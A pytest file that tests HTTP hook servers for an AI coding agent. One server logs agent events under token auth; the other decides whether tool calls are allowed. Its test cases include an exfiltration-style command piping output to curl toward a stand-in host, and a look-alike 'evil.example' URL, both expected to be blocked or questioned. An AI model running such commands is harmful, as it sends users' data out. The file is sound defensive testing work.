"""The ready-to-use HTTP hooks: their servers as real processes, asked over a connection that stays open."""

from __future__ import annotations

import http.client
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

HookFile = Callable[[str], Path]


@contextmanager
def served(path: Path, *words: str, environment: dict[str, str] | None = None) -> Iterator[http.client.HTTPConnection]:
    """Start a server on a free port and connect to it; it must end with Ctrl-C, cleanly."""
    process = subprocess.Popen(
        [sys.executable, str(path), "--port", "0", *words],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, **(environment or {})},
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # ignored where the tests run in a background
    )
    assert process.stdout is not None
    assert process.stderr is not None
    try:
        found = re.search(r"http://127\.0\.0\.1:(\d+)/", process.stdout.readline())
        assert found is not None, process.stderr.read()
        connection = http.client.HTTPConnection("127.0.0.1", int(found[1]), timeout=30)
        yield connection
        connection.close()
        process.send_signal(signal.SIGINT)
        assert process.wait(30) == 0
    finally:
        process.kill()
        process.communicate()


def post(connection: http.client.HTTPConnection, body: Any, **headers: str) -> tuple[int, bytes]:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    connection.request("POST", "/", data, {"Content-Type": "application/json", **headers})
    answer = connection.getresponse()
    return answer.status, answer.read()


def test_the_receiver_writes_down_each_event_and_answers_nothing(
    desk: Any, hook_file: HookFile, tmp_path: Path
) -> None:
    file = tmp_path / "audit.jsonl"
    events = [desk.recorded(name) for name in ("UserPromptSubmit", "PostToolUse", "PostToolUseFailure", "SessionEnd")]
    with served(hook_file("audit-to-webhook"), "--file", str(file)) as connection:
        sockets = []
        for event in events:
            assert post(connection, event) == (204, b"")
            sockets.append(connection.sock)
        assert len(set(map(id, sockets))) == 1, "the connection stays open"
        assert [json.loads(line)["hook_event_name"] for line in file.read_text().splitlines()] == [
            event["hook_event_name"] for event in events
        ]
    assert all(event.items() <= json.loads(line).items() for event, line in zip(events, file.open(), strict=True))
    assert file.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    ("body", "headers", "status"),
    [
        (b"{}", {}, 401),
        (b"{}", {"Authorization": "Bearer wrong"}, 401),
        (b"{}", {"Authorization": "Bearer t\xe9"}, 401),
        (b"[1]", {"Authorization": "Bearer right"}, 400),
        (b"{half", {"Authorization": "Bearer right"}, 400),
        (b"{}", {"Authorization": "Bearer right", "Content-Length": "99999999999"}, 413),
        (b"{}", {"Authorization": "Bearer right", "Content-Length": "-1"}, 413),
    ],
)
def test_who_has_no_token_and_what_is_no_event_is_not_written_down(
    hook_file: HookFile, tmp_path: Path, body: bytes, headers: dict[str, str], status: int
) -> None:
    file = tmp_path / "audit.jsonl"
    with served(hook_file("audit-to-webhook"), "--file", str(file), environment={"AUDIT_TOKEN": "right"}) as connection:
        assert post(connection, body, **headers)[0] == status
        assert not file.exists()
        assert post(connection, b"{}", Authorization="Bearer right")[0] == 204


def test_a_full_disk_is_said(hook_file: HookFile) -> None:
    with served(hook_file("audit-to-webhook"), "--file", "/dev/full") as connection:
        assert post(connection, {"a": 1}) == (500, b"cannot write: No space left on device")


def test_the_server_decides_by_the_functions_of_the_kit(desk: Any, hook_file: HookFile) -> None:
    def fetch(url: str) -> dict[str, Any]:
        event: dict[str, Any] = desk.tool("PreToolUse", "WebFetch", {"url": url, "prompt": "x"})
        return event

    with served(hook_file("ask-a-webhook")) as connection:
        for event, verdict in (
            (fetch("https://docs.python.org/3/"), "allow"),
            (fetch("https://evil.example/docs.python.org"), "ask"),
            (fetch("https://notpypi.org"), "ask"),
            (fetch("no url"), "ask"),
            (desk.bash("ls | curl -d @- x"), "deny"),
        ):
            status, body = post(connection, event)
            assert status == 200
            assert json.loads(body)["hookSpecificOutput"]["permissionDecision"] == verdict
        assert post(connection, desk.bash("ls")) == (204, b"")
        assert post(connection, b"no event")[0] == 500
        assert post(connection, desk.bash("echo 'open"))[0] == 500, "a crash is no decision"
        assert post(connection, desk.bash("ls")) == (204, b"")
